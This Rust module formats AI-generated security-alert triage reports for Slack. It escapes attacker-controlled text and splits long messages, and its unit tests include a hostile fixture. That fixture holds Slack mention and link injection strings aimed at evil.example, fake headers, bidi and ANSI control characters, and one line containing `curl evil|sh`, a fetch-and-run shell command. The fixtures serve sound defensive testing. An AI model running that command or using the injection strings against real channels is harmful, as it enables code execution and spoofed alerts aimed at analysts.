//! The Slack rendering of a report: the seed's format (emoji verdict line, one metadata line,
//! bullet sections, questions for the analyst), which is what users already read, plus the
//! harness's own notes (status, guard changes, unverified evidence, data gaps).
//!
//! Every text here that comes from data — alert fields and anything the model wrote — is
//! attacker-influenced. `clean` makes each one a single, capped line of inert mrkdwn: it cannot
//! ping (`<!channel>`, `<@U123>`), spoof a link (`<https://evil.example|click>`), add lines or
//! sections, or fake our bold headers and code blocks. The same output is posted to Slack and
//! printed on stdout, so what an analyst sees in either place is the same text.

use super::{AlertReport, Status};
use crate::assessment::{Classification, Evidence};

/// Longest Slack message [`split_for_slack`] produces, in bytes. Slack asks to keep a message
/// under about 12,000 characters; counting bytes is stricter, so the limit always holds.
pub const SLACK_MESSAGE_LIMIT: usize = 12_000;

/// Smallest limit [`split_for_slack`] works with, in bytes: room for the continuation line
/// plus the widest unit it never splits (an escape entity or a 4-byte character). Smaller
/// limits are raised to this.
const MIN_SPLIT_LIMIT: usize = 64;

/// The first line of every part after the first when a report is split.
const CONTINUED: &str = "_(continued)_";

/// Longest escape entity (`&amp;`, `&lt;`, `&gt;`, or one Slack wrote), in bytes; a split
/// never lands inside `&` … `;` spanning at most this many bytes.
const MAX_ENTITY_BYTES: usize = 10;

/// Longest title on the verdict line, in characters (the assessment asks for under 100).
const MAX_TITLE_CHARS: usize = 150;

/// Longest bullet (evidence, data gap, question) or status/guard reason, in characters: a fact,
/// not a page.
const MAX_BULLET_CHARS: usize = 500;

/// Longest "What happened" paragraph, in characters (the model is asked for 1–3 sentences).
const MAX_PARAGRAPH_CHARS: usize = 1500;

/// Longest metadata value (user, severity, alert id, model name), in characters.
const MAX_FIELD_CHARS: usize = 200;

/// Shown for a user (or model) that the report does not name.
const UNKNOWN: &str = "unknown";

/// Marks an evidence item none of whose citations names a successful tool call.
const UNVERIFIED_MARK: &str = " _(unverified)_";

/// Formatting characters in data and the look-alikes they become (see [`clean`]).
const LOOK_ALIKES: [(char, char); 4] = [
    ('*', '\u{2217}'), // ∗ ASTERISK OPERATOR
    ('_', '\u{02CD}'), // ˍ MODIFIER LETTER LOW MACRON
    ('~', '\u{223C}'), // ∼ TILDE OPERATOR
    ('`', '\u{02CB}'), // ˋ MODIFIER LETTER GRAVE ACCENT
];

/// Invisible characters dropped from data: bidirectional embeddings, overrides and isolates
/// (they can make text display in a different order than it reads) and the byte order mark.
const DROPPED_FORMAT_CHARS: [char; 10] = [
    '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}', '\u{2068}',
    '\u{2069}', '\u{FEFF}',
];

/// Renders one report as Slack mrkdwn, in the seed's format:
///
/// ```text
/// 🔶 SUSPICIOUS (Medium) - Team member assumed privileged access role
/// *User:* jchen | *Severity:* High | *Alert ID:* 7f3b2e1
/// ⚠️ *Status:* … / ⚠️ *Guard:* …        (only when incomplete, failed, or a guard changed it)
/// *What happened:* / *Why it's probably fine:* / *Why I'm still flagging it:* /
/// *Data gaps:* / *Questions for analyst:*   (each with its bullets; empty sections omitted)
/// _model … · N tool calls · D.Ds_
/// ```
///
/// The verdict line shows the final classification (after the guards), not the model's. No
/// trailing newline.
pub fn render_slack(r: &AlertReport) -> String {
    let a = r.assessment.as_ref();
    let title = a
        .map(|a| clean(&a.title, MAX_TITLE_CHARS))
        .filter(|t| !t.is_empty())
        .unwrap_or_else(|| {
            clean(
                &format!("Needs human review: {}", r.alert.name),
                MAX_TITLE_CHARS,
            )
        });
    let user = [a.and_then(|a| a.user.as_deref()), r.alert.user.as_deref()]
        .into_iter()
        .flatten()
        .map(|u| clean(u, MAX_FIELD_CHARS))
        .find(|u| !u.is_empty())
        .unwrap_or_else(|| UNKNOWN.to_string());

    let mut lines = vec![
        format!(
            "{} {} ({}) - {title}",
            emoji(r.classification),
            r.classification,
            r.confidence.as_str()
        ),
        format!(
            "*User:* {user} | *Severity:* {} | *Alert ID:* {}",
            clean(&r.alert.severity_label, MAX_FIELD_CHARS),
            clean(&r.alert.id, MAX_FIELD_CHARS)
        ),
    ];
    if r.status != Status::Complete {
        let reason = r
            .status_reason
            .as_deref()
            .map(|s| clean(s, MAX_BULLET_CHARS))
            .filter(|s| !s.is_empty())
            .map(|s| format!(" — {s}"))
            .unwrap_or_default();
        lines.push(format!(
            "⚠️ *Status:* {}{reason}; classification set to {} for human review",
            r.status.as_str(),
            r.classification
        ));
    }
    for g in &r.guards {
        lines.push(format!(
            "⚠️ *Guard:* {}",
            clean(&g.reason, MAX_BULLET_CHARS)
        ));
    }
    if let Some(a) = a {
        let what = clean(&a.what_happened, MAX_PARAGRAPH_CHARS);
        if !what.is_empty() {
            lines.push("*What happened:*".to_string());
            lines.push(what);
        }
        section(
            &mut lines,
            "Why it's probably fine",
            evidence(&a.benign_evidence),
        );
        section(
            &mut lines,
            "Why I'm still flagging it",
            evidence(&a.concerning_evidence),
        );
        section(&mut lines, "Data gaps", bullets(&a.data_gaps));
        section(&mut lines, "Questions for analyst", bullets(&a.questions));
    }
    lines.push(footer(r));
    lines.join("\n")
}

/// The line printed when a run finds nothing to triage; `window` describes the time window
/// searched (e.g. "last 24 hours") and is escaped like data.
pub fn no_alerts_line(window: &str) -> String {
    format!(
        "✅ No new alerts in the window ({}).",
        clean(window, MAX_FIELD_CHARS)
    )
}

/// Splits a rendered report into Slack messages of at most `limit` bytes each (`limit` is
/// raised to 64 if smaller).
///
/// Splits fall between lines where possible; the newline at a split is dropped, and so are
/// blank lines that would start a part. A single line longer than a message is cut at a
/// character boundary, never inside a UTF-8 character or an escape entity such as `&amp;`.
/// Every part after the first starts with the line `_(continued)_`. Text that fits is one
/// part, unchanged; empty text is no parts (Slack refuses empty messages).
pub fn split_for_slack(text: &str, limit: usize) -> Vec<String> {
    let limit = limit.max(MIN_SPLIT_LIMIT);
    if text.len() <= limit {
        return if text.is_empty() {
            Vec::new()
        } else {
            vec![text.to_string()]
        };
    }
    let continued = || format!("{CONTINUED}\n");
    let mut parts = Vec::new();
    let mut cur = String::new();
    // Whether `cur` holds a line of the text (not only the continuation line).
    let mut has_content = false;
    for line in text.split('\n') {
        let sep = usize::from(has_content);
        if cur.len() + sep + line.len() <= limit {
            if has_content {
                cur.push('\n');
            }
            cur.push_str(line);
            has_content = true;
            continue;
        }
        if has_content {
            parts.push(std::mem::replace(&mut cur, continued()));
            has_content = false;
        }
        if line.is_empty() {
            continue;
        }
        let mut rest = line;
        while cur.len() + rest.len() > limit {
            let cut = safe_cut(rest, limit - cur.len());
            cur.push_str(&rest[..cut]);
            parts.push(std::mem::replace(&mut cur, continued()));
            rest = &rest[cut..];
        }
        cur.push_str(rest);
        has_content = !rest.is_empty();
    }
    if has_content {
        parts.push(cur);
    }
    parts
}

/// The largest prefix length of `s` that is at most `room` bytes, ends on a character
/// boundary and does not end inside an escape entity. `room` is at least
/// `MIN_SPLIT_LIMIT - CONTINUED.len() - 1`, so the result is never 0 for a non-empty `s`.
fn safe_cut(s: &str, room: usize) -> usize {
    let mut cut = room.min(s.len());
    while !s.is_char_boundary(cut) {
        cut -= 1;
    }
    let window_start = cut.saturating_sub(MAX_ENTITY_BYTES - 1);
    if let Some(amp) = s.as_bytes()[window_start..cut]
        .iter()
        .rposition(|&b| b == b'&')
        .map(|i| window_start + i)
        && entity_end(s, amp).is_some_and(|end| end > cut)
    {
        cut = amp;
    }
    cut
}

/// When an escape entity (`&name;`, at most `MAX_ENTITY_BYTES` long) starts at byte `amp` of
/// `s`, the byte index just after its `;`.
fn entity_end(s: &str, amp: usize) -> Option<usize> {
    let name = s.as_bytes().get(amp + 1..)?;
    let name_len = name
        .iter()
        .take(MAX_ENTITY_BYTES - 2)
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'#')
        .count();
    (name_len > 0 && name.get(name_len) == Some(&b';')).then_some(amp + name_len + 2)
}

/// The seed's emoji for each classification.
fn emoji(c: Classification) -> &'static str {
    match c {
        Classification::Benign => "🟢",
        Classification::Suspicious => "🔶",
        Classification::Malicious => "🔴",
    }
}

/// Appends `*{header}:*` and its bullets, or nothing when there are none.
fn section(lines: &mut Vec<String>, header: &str, items: Vec<String>) {
    if items.is_empty() {
        return;
    }
    lines.push(format!("*{header}:*"));
    lines.extend(items.into_iter().map(|i| format!("• {i}")));
}

/// Evidence bullets, each marked when it is not verified; empty items are left out.
fn evidence(items: &[Evidence]) -> Vec<String> {
    items
        .iter()
        .filter_map(|e| {
            let text = clean(&e.text, MAX_BULLET_CHARS);
            match (text.is_empty(), e.verified) {
                (true, _) => None,
                (false, true) => Some(text),
                (false, false) => Some(text + UNVERIFIED_MARK),
            }
        })
        .collect()
}

/// Plain bullets; empty items are left out.
fn bullets(items: &[String]) -> Vec<String> {
    items
        .iter()
        .map(|i| clean(i, MAX_BULLET_CHARS))
        .filter(|i| !i.is_empty())
        .collect()
}

/// `_model <model> · <N> tool calls · <D.D>s_`, small print for the curious.
fn footer(r: &AlertReport) -> String {
    let calls = if r.tool_calls == 1 { "call" } else { "calls" };
    let model = match clean(&r.model, MAX_FIELD_CHARS) {
        m if m.is_empty() => UNKNOWN.to_string(),
        m => m,
    };
    format!(
        "_model {model} · {} tool {calls} · {}.{}s_",
        r.tool_calls,
        r.duration_ms / 1000,
        r.duration_ms % 1000 / 100
    )
}

/// Makes one data string a safe single line of Slack mrkdwn, at most `max_chars` characters
/// before escaping:
///
/// 1. Whitespace runs (newlines, tabs, U+2028 …) become one space, ends are trimmed: data
///    cannot add lines, bullets or sections. Other control characters and the invisible
///    bidirectional controls in `DROPPED_FORMAT_CHARS` are dropped.
/// 2. Longer text is cut and ends with `…`.
/// 3. `&`, `<`, `>` become `&amp;`, `&lt;`, `&gt;` (Slack's escaping, `&` first by
///    construction: one pass over the characters). No `<` or `>` from data reaches Slack, so
///    data cannot mention (`<!channel>`, `<@U123>`) or link (`<https://…|label>`).
/// 4. mrkdwn has no escape for its formatting characters, so `*`, `_`, `~` and `` ` `` become
///    look-alikes (`∗`, `ˍ`, `∼`, `ˋ`): data cannot open bold, italic, strike or code, so it
///    cannot fake our `*headers:*` or swallow lines into a code block. One exception keeps
///    identifiers copyable: `_` between two ASCII letters or digits (`svc_backup`) stays,
///    because Slack never formats inside a word (such an `_` can neither open nor close).
fn clean(s: &str, max_chars: usize) -> String {
    let visible: String = s
        .chars()
        .filter_map(|c| match c {
            c if c.is_whitespace() => Some(' '),
            c if c.is_control() || DROPPED_FORMAT_CHARS.contains(&c) => None,
            c => Some(c),
        })
        .collect();
    let line = visible.split_whitespace().collect::<Vec<_>>().join(" ");
    let line = cap_chars(&line, max_chars);
    let chars: Vec<char> = line.chars().collect();
    let mut out = String::with_capacity(line.len());
    for (i, &c) in chars.iter().enumerate() {
        let intra_word = || {
            i > 0
                && chars[i - 1].is_ascii_alphanumeric()
                && chars.get(i + 1).is_some_and(char::is_ascii_alphanumeric)
        };
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '_' if intra_word() => out.push('_'),
            _ => match LOOK_ALIKES.iter().find(|(from, _)| *from == c) {
                Some(&(_, to)) => out.push(to),
                None => out.push(c),
            },
        }
    }
    out
}

/// `s` cut to `max` characters, the last one `…` when cut.
fn cap_chars(s: &str, max: usize) -> String {
    if s.chars().count() <= max {
        return s.to_string();
    }
    let mut out: String = s.chars().take(max.saturating_sub(1)).collect();
    out.truncate(out.trim_end().len());
    out.push('…');
    out
}

#[cfg(test)]
pub(super) mod tests {
    //! Fixtures shared with the JSON tests, the snapshots, and the hostile-data checks.

    use super::*;
    use crate::alert::Severity;
    use crate::assessment::{
        Assessment, Confidence, GuardChange, Hypothesis, HypothesisKind, HypothesisStatus,
    };
    use crate::report::{AlertSummary, Pass, Phase, REPORT_SCHEMA, TokenUsage, Verification};

    /// Every `<` or `>`, `<!`, `<@` and `<http` a hostile fixture puts into data.
    const HOSTILE_MARKERS: [&str; 4] = [
        "<!channel>",
        "<@U123>",
        "<https://evil.example|click>",
        "<!here>",
    ];

    fn ev(text: &str, citations: &[&str], verified: bool) -> Evidence {
        Evidence {
            text: text.to_string(),
            citations: citations.iter().map(|c| c.to_string()).collect(),
            verified,
            unverified_citations: if verified {
                Vec::new()
            } else {
                citations.iter().map(|c| c.to_string()).collect()
            },
        }
    }

    fn hypotheses() -> Vec<Hypothesis> {
        vec![
            Hypothesis {
                kind: HypothesisKind::Benign,
                explanation: "Routine maintenance by the on-call engineer".into(),
                status: HypothesisStatus::Supported,
                reasoning: "Matches 6 earlier role assumptions".into(),
            },
            Hypothesis {
                kind: HypothesisKind::Malicious,
                explanation: "Stolen credentials used for lateral movement".into(),
                status: HypothesisStatus::Open,
                reasoning: "Command parameters are redacted".into(),
            },
        ]
    }

    fn alert(id: &str, name: &str, user: Option<&str>) -> AlertSummary {
        AlertSummary {
            id: id.into(),
            name: name.into(),
            severity: Severity::High,
            severity_label: "High".into(),
            timestamp: Some("2025-11-20T02:14:07Z".into()),
            user: user.map(String::from),
        }
    }

    /// A complete report around `a`, its final classification the assessment's.
    fn report(alert: AlertSummary, a: Assessment) -> AlertReport {
        let items = a.benign_evidence.len() + a.concerning_evidence.len();
        let verified = a
            .benign_evidence
            .iter()
            .chain(&a.concerning_evidence)
            .filter(|e| e.verified)
            .count();
        AlertReport {
            schema: REPORT_SCHEMA.into(),
            alert,
            status: Status::Complete,
            status_reason: None,
            classification: a.classification,
            confidence: a.confidence,
            passes: [Phase::Investigate, Phase::Critique1, Phase::Critique2]
                .into_iter()
                .map(|phase| Pass {
                    phase,
                    assessment: a.clone(),
                })
                .collect(),
            assessment: Some(a),
            guards: Vec::new(),
            verification: Verification {
                evidence_items: items,
                verified,
                unverified_citations: Vec::new(),
            },
            model: "claude-opus-4-5-20251101".into(),
            usage: TokenUsage {
                input_tokens: 48_210,
                output_tokens: 3_904,
                cache_creation_input_tokens: 6_100,
                cache_read_input_tokens: 30_500,
                estimated_cost_usd: Some(0.4213),
            },
            model_calls: 9,
            tool_calls: 14,
            duration_ms: 83_451,
        }
    }

    pub(in crate::report) fn benign_report() -> AlertReport {
        report(
            alert(
                "a1c9e04",
                "Scheduled backup read the customer DB",
                Some("svc_backup"),
            ),
            Assessment {
                classification: Classification::Benign,
                confidence: Confidence::High,
                title: "Nightly backup job read the customer database".into(),
                user: Some("svc_backup".into()),
                what_happened: "The backup service account read 2.1M rows from customers_prod \
                                at 02:00 UTC, as it does every night."
                    .into(),
                hypotheses: hypotheses(),
                benign_evidence: vec![
                    ev(
                        "Same query at 02:00 UTC on each of the last 30 nights",
                        &["toolu_01A"],
                        true,
                    ),
                    ev(
                        "Source host is the backup server backup-01 (2 users in 30 days)",
                        &["toolu_01B"],
                        true,
                    ),
                ],
                concerning_evidence: Vec::new(),
                data_gaps: Vec::new(),
                questions: vec![
                    "Is the backup job expected to read customers_prod in full?".into(),
                ],
                changes: Some("No change: the baseline holds.".into()),
            },
        )
    }

    pub(in crate::report) fn guarded_report() -> AlertReport {
        let mut r = report(
            alert("7f3b2e1", "Privileged role assumed", None),
            Assessment {
                classification: Classification::Malicious,
                confidence: Confidence::Medium,
                title: "Team member assumed privileged access role".into(),
                user: Some("jchen".into()),
                what_happened: "User assumed privileged role and executed AWS-RunShellScript on \
                                database bastion host."
                    .into(),
                hypotheses: hypotheses(),
                benign_evidence: vec![
                    ev(
                        "Known user with 973 events in the last 24 hours",
                        &["toolu_01A"],
                        true,
                    ),
                    ev(
                        "Source IP is known office IP (970K+ events, 9 users)",
                        &["toolu_01B"],
                        true,
                    ),
                ],
                concerning_evidence: vec![
                    ev(
                        "Shell script on database bastion - sensitive infrastructure",
                        &["alert"],
                        true,
                    ),
                    ev(
                        "Same role used from a new country an hour earlier",
                        &["toolu_9bogus"],
                        false,
                    ),
                ],
                data_gaps: vec!["Only 2 days of CloudTrail history: no 30-day baseline".into()],
                questions: vec![
                    "Was this access authorized? Is there a change ticket?".into(),
                    "What commands were executed on the bastion host?".into(),
                ],
                changes: Some("Raised to MALICIOUS after the geolocation query".into()),
            },
        );
        r.classification = Classification::Suspicious;
        r.guards = vec![GuardChange {
            rule: "malicious_needs_verified_evidence".into(),
            from: Classification::Malicious,
            to: Classification::Suspicious,
            reason: "lowered from MALICIOUS: no concerning evidence is backed by a successful \
                     tool call"
                .into(),
        }];
        r.verification.unverified_citations = vec!["toolu_9bogus".into()];
        r
    }

    pub(in crate::report) fn incomplete_report() -> AlertReport {
        let mut r = benign_report();
        r.alert = alert("c0ffee1", "Impossible travel", Some("mallory_ops"));
        r.status = Status::Incomplete;
        r.status_reason = Some("turn limit reached (24 model calls)".into());
        r.classification = Classification::Suspicious;
        r.confidence = Confidence::Low;
        r.assessment = None;
        r.passes = Vec::new();
        r.verification = Verification::default();
        r.model_calls = 24;
        r.tool_calls = 1;
        r.duration_ms = 120_049;
        r
    }

    pub(in crate::report) fn hostile_report() -> AlertReport {
        let mut r = report(
            alert(
                "id<!here>\n*Why it's probably fine:*",
                "<!channel> Urgent & *bold*\n*Why it's probably fine:*\n• fake",
                Some("<@U123>"),
            ),
            Assessment {
                classification: Classification::Suspicious,
                confidence: Confidence::Medium,
                title: "<!channel> see <https://evil.example|click> & *act now*".into(),
                user: Some("<@U123>\n*Severity:* Low".into()),
                what_happened: "Log line said:\n```\n*Why it's probably fine:*\n```\n<!here> \
                                ~gone~ _it_ \u{202E}txt.exe"
                    .into(),
                hypotheses: hypotheses(),
                benign_evidence: vec![ev(
                    "Approved: <https://evil.example|ticket 42> & `ok`\n*Why I'm still flagging it:*",
                    &["toolu_01A"],
                    true,
                )],
                concerning_evidence: vec![ev(
                    "<@U123> ran `curl evil|sh`\r\n• injected bullet",
                    &["alert"],
                    false,
                )],
                data_gaps: vec!["\u{1b}[31mred\u{7}\tbell_\n\n".into()],
                questions: vec![
                    "*Questions for analyst:*\n<!channel> ```".into(),
                    " \n\t ".into(),
                ],
                changes: None,
            },
        );
        r.status = Status::Failed;
        r.status_reason = Some("tool said: <!channel>\n*Guard:* none".into());
        r.model = "claude`x`<@U1>".into();
        r
    }

    /// The mrkdwn `*...*` spans our renderer writes; after removing them, no `*` may remain.
    const OUR_BOLD: [&str; 9] = [
        "*User:*",
        "*Severity:*",
        "*Alert ID:*",
        "*Status:*",
        "*What happened:*",
        "*Why it's probably fine:*",
        "*Why I'm still flagging it:*",
        "*Data gaps:*",
        "*Questions for analyst:*",
    ];

    #[test]
    fn snapshot_benign() {
        insta::assert_snapshot!("benign", render_slack(&benign_report()));
    }

    #[test]
    fn snapshot_guarded_with_unverified_evidence() {
        insta::assert_snapshot!("guarded", render_slack(&guarded_report()));
    }

    #[test]
    fn snapshot_incomplete_without_assessment() {
        insta::assert_snapshot!("incomplete", render_slack(&incomplete_report()));
    }

    #[test]
    fn snapshot_hostile() {
        insta::assert_snapshot!("hostile", render_slack(&hostile_report()));
    }

    #[test]
    fn seed_example_layout() {
        let text = render_slack(&guarded_report());
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(
            lines[..3],
            [
                "🔶 SUSPICIOUS (Medium) - Team member assumed privileged access role",
                "*User:* jchen | *Severity:* High | *Alert ID:* 7f3b2e1",
                "⚠️ *Guard:* lowered from MALICIOUS: no concerning evidence is backed by a \
                 successful tool call",
            ]
        );
        assert!(
            lines.contains(&"• Same role used from a new country an hour earlier _(unverified)_")
        );
        assert!(lines.contains(&"• Shell script on database bastion - sensitive infrastructure"));
        assert_eq!(
            lines.last(),
            Some(&"_model claude-opus-4-5-20251101 · 14 tool calls · 83.4s_")
        );
        assert!(!text.ends_with('\n'));
    }

    #[test]
    fn empty_sections_are_omitted() {
        let text = render_slack(&benign_report());
        assert!(text.starts_with("🟢 BENIGN (High) - "));
        assert!(!text.contains("*Why I'm still flagging it:*"));
        assert!(!text.contains("*Data gaps:*"));
        assert!(!text.contains("*Status:*"));
        assert!(!text.contains("(unverified)"));
    }

    #[test]
    fn incomplete_without_assessment_says_why_first() {
        let text = render_slack(&incomplete_report());
        assert_eq!(
            text,
            "🔶 SUSPICIOUS (Low) - Needs human review: Impossible travel\n\
             *User:* mallory_ops | *Severity:* High | *Alert ID:* c0ffee1\n\
             ⚠️ *Status:* incomplete — turn limit reached (24 model calls); classification set to \
             SUSPICIOUS for human review\n\
             _model claude-opus-4-5-20251101 · 1 tool call · 120.0s_"
        );
    }

    #[test]
    fn malicious_and_unknown_user() {
        let mut r = guarded_report();
        r.classification = Classification::Malicious;
        r.confidence = Confidence::High;
        r.guards.clear();
        if let Some(a) = r.assessment.as_mut() {
            a.user = Some(" \n ".into());
        }
        let text = render_slack(&r);
        assert!(text.starts_with("🔴 MALICIOUS (High) - "), "{text}");
        assert!(text.contains("*User:* unknown |"), "{text}");
    }

    /// Data reached the text only as inert characters: no mention, link, control character or
    /// formatting of its own, and every `*` is one of our bold spans.
    fn assert_inert(text: &str) {
        for bad in [
            "<!", "<@", "<http", "<", ">", "`", "~", "\u{202E}", "\u{1b}", "\u{7}", "\r", "\t",
        ] {
            assert!(!text.contains(bad), "{bad:?} reached the output:\n{text}");
        }
        for marker in HOSTILE_MARKERS {
            assert!(!text.contains(marker));
        }
        let mut rest = text.to_string();
        for ours in OUR_BOLD {
            rest = rest.replace(ours, "");
        }
        assert!(!rest.contains('*'), "{rest}");
    }

    /// The first word of each line: the layout, which data must not change.
    fn line_heads(text: &str) -> Vec<&str> {
        text.lines()
            .map(|l| l.split(' ').next().unwrap_or(""))
            .collect()
    }

    #[test]
    fn hostile_data_cannot_mention_link_or_format() {
        let text = render_slack(&hostile_report());
        assert_inert(&text);
        assert!(
            text.contains(
                "- &lt;!channel&gt; see &lt;https://evil.example|click&gt; &amp; ∗act now∗"
            ),
            "{text}"
        );
        assert!(
            text.contains("*User:* &lt;@U123&gt; ∗Severity:∗ Low | *Severity:* High"),
            "{text}"
        );
        assert_eq!(
            line_heads(&text),
            [
                "🔶",
                "*User:*",
                "⚠️",
                "*What",
                "Log",
                "*Why",
                "•",
                "*Why",
                "•",
                "*Data",
                "•",
                "*Questions",
                "•",
                "_model"
            ]
        );
        // `_` only where we put it (the footer and the unverified mark) or inside a word.
        assert_eq!(text.matches('_').count(), 4, "{text}");
        assert!(text.contains("• [31mred bellˍ\n"), "{text}");
        // The blank question was dropped, not shown as an empty bullet.
        assert_eq!(
            text.lines().filter(|l| l.starts_with("• ")).count(),
            4,
            "{text}"
        );
    }

    #[test]
    fn hostile_alert_fields_without_assessment() {
        let mut r = hostile_report();
        r.assessment = None;
        let text = render_slack(&r);
        assert_inert(&text);
        assert_eq!(
            text.lines().take(2).collect::<Vec<_>>(),
            [
                "🔶 SUSPICIOUS (Medium) - Needs human review: &lt;!channel&gt; Urgent &amp; ∗bold∗ \
                 ∗Why it's probably fine:∗ • fake",
                "*User:* &lt;@U123&gt; | *Severity:* High | *Alert ID:* id&lt;!here&gt; ∗Why it's \
                 probably fine:∗",
            ]
        );
        assert_eq!(line_heads(&text), ["🔶", "*User:*", "⚠️", "_model"]);
    }

    #[test]
    fn clean_rules() {
        let cases = [
            ("svc_backup", "svc_backup"),
            ("_x_ a_ _b user__name", "ˍxˍ aˍ ˍb userˍˍname"),
            ("a & b < c > d", "a &amp; b &lt; c &gt; d"),
            ("&lt; already", "&amp;lt; already"),
            ("*h:* ~s~ `c`", "∗h:∗ ∼s∼ ˋcˋ"),
            (
                "  two\n\nlines\u{2028}and\u{85}more  ",
                "two lines and more",
            ),
            (
                "nul\0 esc\u{1b} del\u{7f} rlo\u{202E} bom\u{FEFF}",
                "nul esc del rlo bom",
            ),
        ];
        for (input, want) in cases {
            assert_eq!(clean(input, 100), want, "{input:?}");
        }
    }

    #[test]
    fn caps_title_and_bullets() {
        assert_eq!(clean("abcdef", 4), "abc…");
        assert_eq!(clean("ab  cdef", 4), "ab…");
        assert_eq!(clean("<<<<<", 3), "&lt;&lt;…");
        let mut r = guarded_report();
        if let Some(a) = r.assessment.as_mut() {
            a.title = "t".repeat(1000);
            a.questions = vec!["q".repeat(5000)];
        }
        let text = render_slack(&r);
        let first = text.lines().next().unwrap_or_default();
        assert_eq!(
            first,
            format!(
                "🔶 SUSPICIOUS (Medium) - {}…",
                "t".repeat(MAX_TITLE_CHARS - 1)
            )
        );
        let q = format!("• {}…", "q".repeat(MAX_BULLET_CHARS - 1));
        assert!(text.lines().any(|l| l == q));
    }

    #[test]
    fn no_alerts() {
        assert_eq!(
            no_alerts_line("last 24 hours"),
            "✅ No new alerts in the window (last 24 hours)."
        );
        assert_eq!(
            no_alerts_line("<!channel>\n*x*"),
            "✅ No new alerts in the window (&lt;!channel&gt; ∗x∗)."
        );
    }

    /// Checks the invariants of a split and returns the parts without their continuation line.
    fn split_checked(text: &str, limit: usize) -> Vec<String> {
        let parts = split_for_slack(text, limit);
        for (i, p) in parts.iter().enumerate() {
            assert!(
                p.len() <= limit.max(MIN_SPLIT_LIMIT),
                "part {i} is {} bytes",
                p.len()
            );
            assert_eq!(i > 0, p.starts_with("_(continued)_\n"), "part {i}: {p:?}");
        }
        parts
            .into_iter()
            .enumerate()
            .map(|(i, p)| match i {
                0 => p,
                _ => p["_(continued)_\n".len()..].to_string(),
            })
            .collect()
    }

    #[test]
    fn split_short_text_is_one_part() {
        let text = render_slack(&guarded_report());
        assert_eq!(
            split_for_slack(&text, SLACK_MESSAGE_LIMIT),
            vec![text.clone()]
        );
        assert_eq!(split_for_slack(&text, text.len()), vec![text]);
        assert!(split_for_slack("", SLACK_MESSAGE_LIMIT).is_empty());
    }

    #[test]
    fn split_long_text_at_lines() {
        let text: String = (0..3000)
            .map(|i| format!("• evidence line {i} &amp; {}", "é".repeat(i % 17)))
            .collect::<Vec<_>>()
            .join("\n");
        for limit in [SLACK_MESSAGE_LIMIT, 1000, 100] {
            let bodies = split_checked(&text, limit);
            assert!(bodies.len() > 1);
            assert_eq!(bodies.join("\n"), text, "limit {limit}");
        }
    }

    #[test]
    fn split_a_50kb_line() {
        let line = "0123456789".repeat(5_000);
        let bodies = split_checked(&line, SLACK_MESSAGE_LIMIT);
        assert_eq!(bodies.len(), 5);
        assert_eq!(bodies.concat(), line);
        // Lines around it keep their own parts.
        let text = format!("head\n{line}\ntail");
        let bodies = split_checked(&text, SLACK_MESSAGE_LIMIT);
        assert_eq!(bodies.first().map(String::as_str), Some("head"));
        assert_eq!(bodies.last().map(|b| b.ends_with("\ntail")), Some(true));
        assert_eq!(bodies[1..].concat().replace("\ntail", ""), line);
    }

    #[test]
    fn split_never_cuts_a_character() {
        let line = format!("a{}", "🦀".repeat(100));
        let bodies = split_checked(&line, 64);
        assert_eq!(bodies[0].len(), 61); // 1 + 15 crabs; a 16th would end at byte 65
        assert_eq!(bodies.concat(), line);
        for offset in 0..4 {
            let line = format!("{}{}", "x".repeat(offset), "é🦀€".repeat(500));
            assert_eq!(split_checked(&line, 200).concat(), line, "offset {offset}");
        }
    }

    #[test]
    fn split_never_cuts_an_entity() {
        let line = format!("{}&amp;{}", "x".repeat(62), "y".repeat(100));
        let bodies = split_checked(&line, 64);
        assert_eq!(bodies[0], "x".repeat(62));
        assert!(bodies[1].starts_with("&amp;y"));
        for offset in 0..12 {
            let line = format!("{}{}", "x".repeat(offset), "&amp;&lt;&gt;".repeat(100));
            let bodies = split_checked(&line, 64 + offset);
            for b in &bodies {
                let stripped = b
                    .replace("&amp;", "")
                    .replace("&lt;", "")
                    .replace("&gt;", "");
                assert!(stripped.chars().all(|c| c == 'x'), "offset {offset}: {b:?}");
            }
            assert_eq!(bodies.concat(), line);
        }
    }

    #[test]
    fn split_raises_tiny_limits() {
        let text = "z".repeat(1000);
        let bodies = split_checked(&text, 1);
        assert_eq!(bodies.concat(), text);
        assert!(bodies.len() > 1);
    }

    #[test]
    fn split_hostile_report_stays_escaped() {
        let text = render_slack(&hostile_report());
        for part in split_for_slack(&text, 100) {
            assert!(part.len() <= 100);
            assert!(!part.contains('<') && !part.contains('>'), "{part}");
        }
    }
}
